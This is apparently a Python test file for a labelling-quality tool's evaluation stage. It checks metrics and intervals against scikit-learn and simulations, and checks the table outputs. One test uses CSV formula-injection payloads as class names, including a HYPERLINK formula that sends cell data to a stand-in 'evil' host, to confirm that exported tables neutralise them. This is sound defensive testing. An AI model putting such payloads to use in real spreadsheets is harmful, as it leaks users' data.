"""Evaluate: every figure against scikit-learn, intervals against simulated methods, and the tables as files."""

import csv
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from numpy.typing import NDArray

import secondlook as package
from conftest import Command, Result
from make_records import Rows, write_decisions, write_instances, write_votes
from secondlook.io import tabular
from secondlook.io.outputs import TABLES
from secondlook.stages.evaluate.scores import Scores, TruthAndAnswers, score_all
from secondlook.stats.intervals import Draws

pytestmark = pytest.mark.filterwarnings("error")

CLASSES = ["stop", "yield", "no_parking & more", "turn"]
FIGURES = ["accuracy", "selective_accuracy", "macro_f1", "balanced_accuracy"]
FILES = sorted(TABLES)


def write_task(folder: Path, objects: Rows, labelers: dict[str, dict[str, str | None]]) -> list[Any]:
    """Write instances, votes and decisions; return the arguments of the command.

    An object has `instance_id`, `given`, `truth`, `label`, `action`, `confidence` and `majority`.
    """
    known = ("instance_id", "given", "truth", "image_id")
    instances = write_instances(
        folder / "instances.parquet", [{name: row[name] for name in known if name in row} for row in objects], CLASSES
    )
    names = ("instance_id", "given", "label", "action", "confidence")
    decided = [{name: row[name] for name in names} for row in objects]
    consensus = write_decisions(folder / "consensus.parquet", decided, CLASSES)
    by_majority = [{**row, "label": whole["majority"]} for row, whole in zip(decided, objects, strict=True)]
    write_decisions(folder / "majority.parquet", by_majority, CLASSES)
    votes: list[Any] = []
    for name, said in labelers.items():
        votes += ["--votes", write_votes(folder / f"{name}.parquet", name, said, CLASSES, family=f"family of {name}")]
    return ["evaluate", "--instances", instances, "--consensus", consensus, *votes, "--out", folder / "evaluate"]


def evaluate(secondlook: Command, arguments: list[Any], options: str = "{}") -> Result:
    result = secondlook(*arguments, "--options", options)
    assert result.code == 0, result.err
    return result


def random_task(objects: int = 150, seed: int = 0) -> tuple[Rows, dict[str, dict[str, str | None]]]:
    """Draw objects, three to an image, and two labelers; a tenth of the truth is unknown, `turn` is never true."""
    random = np.random.default_rng(seed)

    def noisy(truth: str, right: float, silent: float) -> str | None:
        if random.random() < silent:
            return None
        return truth if random.random() < right else str(random.choice(CLASSES))

    rows: Rows = []
    for index in range(objects):
        truth = str(random.choice(CLASSES[:3], p=[0.6, 0.3, 0.1]))
        row: dict[str, Any] = {"instance_id": f"o{index:03d}", "image_id": f"image {index // 3}"}
        row |= {"given": noisy(truth, 0.7, 0.05), "label": noisy(truth, 0.9, 0.02), "majority": noisy(truth, 0.8, 0)}
        row["action"] = str(random.choice(["keep", "relabel", "review"]))
        row["confidence"] = round(float(random.uniform(0.3, 1)), 3)
        row["hidden"] = truth
        row["truth"] = truth if random.random() > 0.1 else None
        rows.append(row)
    labelers = {
        name: {row["instance_id"]: noisy(row["hidden"], right, silent) for row in rows}
        for name, right, silent in (("sharp", 0.9, 0.0), ("shy", 0.8, 0.3))
    }
    return rows, labelers


def answers_of(rows: Rows, labelers: dict[str, dict[str, str | None]]) -> dict[str, tuple[list[str], list[str]]]:
    """Return truth and answers, "" for none, of every method on the objects that it is scored on."""
    known = [row for row in rows if row["truth"]]
    accepted = [row for row in known if row["action"] in {"keep", "relabel"}]
    columns = {
        name: (known, lambda row, key=key: row[key])
        for name, key in (("given", "given"), ("majority", "majority"), ("consensus", "label"))
    }
    columns["consensus, accepted"] = (accepted, lambda row: row["label"])
    for name, said in labelers.items():
        columns[name] = (known, lambda row, said=said: said[row["instance_id"]])
    return {
        name: ([row["truth"] for row in chosen], [answer(row) or "" for row in chosen])
        for name, (chosen, answer) in columns.items()
    }


def test_figures_equal_those_of_scikit_learn(secondlook: Command, tmp_path: Path) -> None:
    from sklearn.metrics import accuracy_score, f1_score, precision_recall_fscore_support, recall_score

    rows, labelers = random_task()
    evaluate(secondlook, write_task(tmp_path, rows, labelers))
    accuracy = pd.read_csv(tmp_path / "evaluate" / "accuracy.csv", keep_default_na=False).set_index("method")
    per_class = pd.read_csv(tmp_path / "evaluate" / "per_class.csv")
    confusion = pd.read_csv(tmp_path / "evaluate" / "confusion.csv")
    methods = answers_of(rows, labelers)
    assert accuracy.index.tolist() == ["given", "sharp", "shy", "majority", "consensus", "consensus, accepted"]
    assert accuracy["family"].tolist() == ["given", "family of sharp", "family of shy", "", "", ""]
    for name, (truth, answer) in methods.items():
        answered = [index for index, said in enumerate(answer) if said]
        found = accuracy.loc[name]
        assert found["n"] == len(truth)
        assert found["coverage"] == pytest.approx(len(answered) / len(truth), abs=1e-5)
        assert found["accuracy"] == pytest.approx(accuracy_score(truth, answer), abs=1e-5)
        some = accuracy_score([truth[index] for index in answered], [answer[index] for index in answered])
        assert found["selective_accuracy"] == pytest.approx(some, abs=1e-5)
        present = sorted(set(truth), key=CLASSES.index)
        macro = f1_score(truth, answer, labels=present, average="macro", zero_division=0)
        assert found["macro_f1"] == pytest.approx(macro, abs=1e-5)
        balanced = recall_score(truth, answer, labels=present, average="macro", zero_division=0)
        assert found["balanced_accuracy"] == pytest.approx(balanced, abs=1e-5)
        for figure in FIGURES:
            assert found[f"{figure}_low"] <= found[figure] <= found[f"{figure}_high"]
        precision, recall, f1, n = precision_recall_fscore_support(truth, answer, labels=present, zero_division=0)
        ours = per_class[per_class["method"] == name]
        assert ours["class"].tolist() == present
        for figure, expected in (("precision", precision), ("recall", recall), ("f1", f1), ("n", n)):
            np.testing.assert_allclose(ours[figure], expected, atol=1e-5)
            if figure != "n":
                assert (ours[f"{figure}_low"] <= ours[figure] + 1e-6).all()
                assert (ours[figure] <= ours[f"{figure}_high"] + 1e-6).all()
        cells = pd.Series(list(zip(truth, answer, strict=True))).value_counts()
        mine = confusion[confusion["method"] == name]
        assert len(mine) == len(cells)
        for row in mine.itertuples():
            assert cells[(row.truth, "" if row.answer == "(no answer)" else row.answer)] == row.count


def test_differences_are_those_of_the_accuracies(secondlook: Command, tmp_path: Path) -> None:
    evaluate(secondlook, write_task(tmp_path, *random_task()))
    accuracy = pd.read_csv(tmp_path / "evaluate" / "accuracy.csv").set_index("method")
    paired = pd.read_csv(tmp_path / "evaluate" / "paired.csv")
    assert paired["b"].tolist() == ["given", "sharp", "shy", "majority"]
    assert set(paired["a"]) == {"consensus"}
    for row in paired.to_dict("records"):
        for name in ("accuracy", "macro_f1"):
            difference = accuracy.loc["consensus", name] - accuracy.loc[row["b"], name]
            assert row[f"{name}_difference"] == pytest.approx(difference, abs=2e-6)
            assert row[f"{name}_difference_low"] <= difference <= row[f"{name}_difference_high"]
        assert row["n"] == accuracy.loc["consensus", "n"]


def test_calibration_counts_the_right_ones_in_each_bin(secondlook: Command, tmp_path: Path) -> None:
    said = [
        (0.3, "stop"),
        (0.5, "stop"),
        (0.599, "yield"),
        (0.95, "stop"),
        (0.989, "yield"),
        (1.0, "stop"),
        (1.0, None),
    ]
    rows = [
        {"instance_id": f"o{index}", "truth": "stop", "given": None, "majority": None, "action": "keep"}
        | {"label": label, "confidence": confidence}
        for index, (confidence, label) in enumerate(said)
    ]
    rows.append({**rows[0], "instance_id": "unknown", "truth": None})
    evaluate(secondlook, write_task(tmp_path, rows, {"a": {}}))
    table = pd.read_csv(tmp_path / "evaluate" / "calibration.csv")
    expected = [
        (0.0, 0.5, 1, 0.3, 1.0),
        (0.5, 0.6, 2, 0.5495, 0.5),
        (0.95, 0.99, 2, 0.9695, 0.5),
        (0.99, 1.0, 2, 1.0, 0.5),
    ]
    columns = ["from", "to", "n", "mean_confidence", "accuracy"]
    assert table.columns.tolist() == [*columns, "accuracy_low", "accuracy_high"]
    np.testing.assert_allclose(table[columns].to_numpy(), expected, atol=1e-6)
    assert (table["accuracy_low"] <= table["accuracy"]).all()
    assert (table["accuracy"] <= table["accuracy_high"]).all()


def test_tables_for_papers_hold_the_same_figures(secondlook: Command, tmp_path: Path) -> None:
    rows, labelers = random_task()
    labelers = {"50% & more_or_less": labelers["sharp"]}
    evaluate(secondlook, write_task(tmp_path, rows, labelers))
    folder = tmp_path / "evaluate"
    table = pd.read_csv(folder / "accuracy.csv").set_index("method")
    row = table.loc["consensus"]
    figures = f"{row.accuracy:.3f} ({row.accuracy_low:.3f} to {row.accuracy_high:.3f})"
    markdown = (folder / "accuracy.md").read_text(encoding="utf-8")
    assert f"| consensus | {row.n} | {row.coverage:.3f} | {figures} |" in markdown
    assert len({line.count("|") for line in markdown.splitlines()}) == 1
    latex = (folder / "accuracy.tex").read_text(encoding="utf-8")
    assert r"50\% \& more\_or\_less & " in latex
    body = latex.split(r"\midrule")[1].split(r"\bottomrule")[0].strip().splitlines()
    assert len(body) == len(table)
    for line in body:
        assert line.endswith(r" \\")
        assert line.replace(r"\&", "").count("&") == 4


NOTHING: list[Any] = [
    pytest.param([], id="no objects"),
    pytest.param(["o0", "o1"], id="objects, none with truth"),
]


@pytest.mark.parametrize("ids", NOTHING)
def test_without_truth_there_are_headings_and_no_scores(secondlook: Command, tmp_path: Path, ids: list[str]) -> None:
    rows = [
        {"instance_id": name, "given": "stop", "truth": None, "majority": "stop", "label": "stop"}
        | {"action": "keep", "confidence": 0.9}
        for name in ids
    ]
    evaluate(secondlook, write_task(tmp_path, rows, {"a": dict.fromkeys(ids, "stop")}))
    folder = tmp_path / "evaluate"
    assert sorted(path.name for path in folder.iterdir()) == FILES
    accuracy = pd.read_csv(folder / "accuracy.csv")
    assert accuracy["method"].tolist() == ["given", "a", "majority", "consensus", "consensus, accepted"]
    assert (accuracy["n"] == 0).all()
    assert accuracy[[*FIGURES, "coverage"]].isna().all(axis=None)
    for name in ("per_class.csv", "confusion.csv", "calibration.csv", "reliability.csv"):
        table = pd.read_csv(folder / name)
        assert len(table) == 0
        assert len(table.columns) >= 4


def test_nothing_accepted_has_no_accuracy_but_a_row(secondlook: Command, tmp_path: Path) -> None:
    rows, labelers = random_task(30)
    evaluate(secondlook, write_task(tmp_path, [{**row, "action": "review"} for row in rows], labelers))
    table = pd.read_csv(tmp_path / "evaluate" / "accuracy.csv").set_index("method")
    assert table.loc["consensus, accepted", "n"] == 0
    assert np.isnan(table.loc["consensus, accepted", "accuracy"])


def test_files_are_repeatable_and_follow_the_seed(secondlook: Command, tmp_path: Path) -> None:
    arguments = write_task(tmp_path, *random_task(60))

    def content(options: str) -> dict[str, bytes]:
        evaluate(secondlook, arguments, options)
        return {name: (tmp_path / "evaluate" / name).read_bytes() for name in FILES}

    first, again, other = content("{seed: 0}"), content("{seed: 0}"), content("{seed: 1}")
    assert first == again
    assert first["accuracy.csv"] != other["accuracy.csv"]
    assert first["confusion.csv"] == other["confusion.csv"]


def test_decisions_of_other_objects_are_refused(secondlook: Command, tmp_path: Path) -> None:
    rows, _ = random_task(6)
    arguments = write_task(tmp_path, rows, {"a": {}})
    decided = [{"instance_id": "stranger", "given": None, "label": "stop", "action": "keep"}]
    write_decisions(tmp_path / "consensus.parquet", decided, CLASSES)
    result = secondlook(*arguments)
    assert result.code == 1
    assert "consensus.parquet" in result.err.splitlines()[-1]


# --- intervals ---------------------------------------------------------------------------------------------------


def scores_of(right: NDArray[np.bool_], image: NDArray[np.int64], seed: int) -> Scores:
    """Score a method on two classes that is right where `right`."""
    truth = np.arange(len(right)) % 2
    said = TruthAndAnswers(truth, np.where(right, truth, 1 - truth), image)
    return score_all([said], 2, Draws(int(image.max()) + 1, 200, seed))[0]


@pytest.mark.slow
def test_interval_holds_the_truth_about_nineteen_times_in_twenty() -> None:
    """Images have their own difficulty (beta, mean 0.8), objects of an image share it."""
    random = np.random.default_rng(0)
    held = naive = 0
    runs = 300
    for run in range(runs):
        size = random.integers(1, 8, size=80)
        image = np.repeat(np.arange(80), size)
        right = random.random(len(image)) < random.beta(2, 0.5, size=80)[image]
        estimate = scores_of(right, image, run).accuracy
        held += estimate.low <= 0.8 <= estimate.high
        by_object = scores_of(right, np.arange(len(right)), run).accuracy
        naive += by_object.low <= 0.8 <= by_object.high
    assert 0.90 <= held / runs <= 0.98
    assert naive < held, "an interval that ignores images is too narrow"


RARE: list[Any] = [
    pytest.param(1, 0, 0.5, 0.5, id="never right on it: a draw without it is no better"),
    pytest.param(1, 1, 1.0, 1.0, id="always right on it: a draw without it is no worse"),
    pytest.param(2, 1, 1.0, 0.9, id="right on one of two"),
]


@pytest.mark.parametrize(("objects", "right", "highest", "lowest"), RARE)
@pytest.mark.parametrize("name", ["macro_f1", "balanced_accuracy"])
def test_means_over_classes_are_over_those_of_the_whole_data(
    name: str, objects: int, right: int, highest: float, lowest: float
) -> None:
    """Sixty images show the class 0, which is always answered right, one or two the class 1."""
    truth = np.repeat([0, 1], [60, objects])
    answer = np.where(np.arange(len(truth)) < 60 + right, truth, -1)
    scores = score_all([TruthAndAnswers(truth, answer, np.arange(len(truth)))], 2, Draws(len(truth), 500, 0))[0]
    found = getattr(scores, name)
    assert found.low <= found.value <= found.high <= highest + 1e-9
    assert found.high >= lowest - 1e-9


def test_copies_in_one_image_teach_nothing_new() -> None:
    random = np.random.default_rng(1)
    right = random.random(200) < 0.8
    independent = scores_of(right, np.arange(200), 0).accuracy
    copies = scores_of(np.repeat(right[:50], 4), np.repeat(np.arange(50), 4), 0).accuracy
    assert copies.high - copies.low > 1.5 * (independent.high - independent.low)
    alone = scores_of(right[:50], np.arange(50), 0).accuracy
    assert copies.high - copies.low == pytest.approx(alone.high - alone.low, abs=0.03)


FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1|cmd", "-turn", "@SUM(1)"]


def test_a_class_that_is_a_formula_is_text_in_every_table(
    secondlook: Command, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setitem(globals(), "CLASSES", FORMULAS)

    evaluate(secondlook, write_task(tmp_path, *random_task()))

    tables = {path.name: path for path in (tmp_path / "evaluate").glob("*.csv")}
    cells = [cell for path in tables.values() for row in csv.reader(path.read_text().splitlines()) for cell in row]
    assert [cell for cell in cells if re.match(r"[=+@-]", cell) and not re.fullmatch(r"[+-]?[\d.e-]+", cell)] == []
    assert tabular.read_csv(tables["per_class.csv"])["class"].unique().tolist() == FORMULAS[:3]


CELLS = st.text(max_size=6) | st.text("=+-@'\t 1a＝", max_size=5)  # noqa: RUF001
CELLS = CELLS.filter(lambda text: "\r" not in text)  # CSV of one kind of line end does not quote the other


@given(st.lists(CELLS, min_size=1, max_size=5), CELLS)
@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_a_table_comes_back_as_it_was(tmp_path: Path, cells: list[str], name: str) -> None:
    table = pd.DataFrame({f"{name}.": cells, "n": range(len(cells))})
    (tmp_path / "a.csv").write_text(tabular.to_csv(table), encoding="utf-8", newline="")

    back = tabular.read_csv(tmp_path / "a.csv", dtype={0: str}, keep_default_na=False)

    assert back.iloc[:, 0].tolist() == cells
    assert list(back.columns) == list(table.columns)


@given(
    st.lists(st.tuples(CELLS, st.floats(), st.integers(-(2**60), 2**60), CELLS | st.none()), min_size=1, max_size=6),
    st.booleans(),
)
@settings(max_examples=300, deadline=None)
def test_a_table_is_written_as_pandas_does(rows: list[tuple[Any, ...]], alone: bool) -> None:
    """Also where no text needs quotes, so that pandas is not asked."""
    table = pd.DataFrame(rows, columns=["a,b", "p", "n", "c"])
    table = table[["a,b"]] if alone else table
    safe = table.map(lambda value: tabular.harmless(value) if isinstance(value, str) else value)

    assert tabular.to_csv(table) == safe.to_csv(index=False, float_format="%.6g")


def test_tables_for_people_are_written_in_one_place() -> None:
    """The labels of `consensus --votes`, and pairs for open_clip, are for programs, which want each as it was given."""
    root = Path(package.__file__).parent
    sources = {path.relative_to(root).as_posix(): path.read_text() for path in root.rglob("*.py")}

    found = [name for name, text in sources.items() if re.search(r"(?<!tabular)\.to_csv\(", text)]

    assert sorted(found) == ["io/tabular.py", "pipelines/retrieve/recipe_steps.py", "stages/consensus/plain.py"]
    by_row = [name for name, text in sources.items() if re.search(r"csv\.(Dict)?[wW]riter\(", text)]
    assert sorted(by_row) == ["stages/export/yolo.py", "stages/review/decisions.py", "synthetic/signs/dataset.py"]
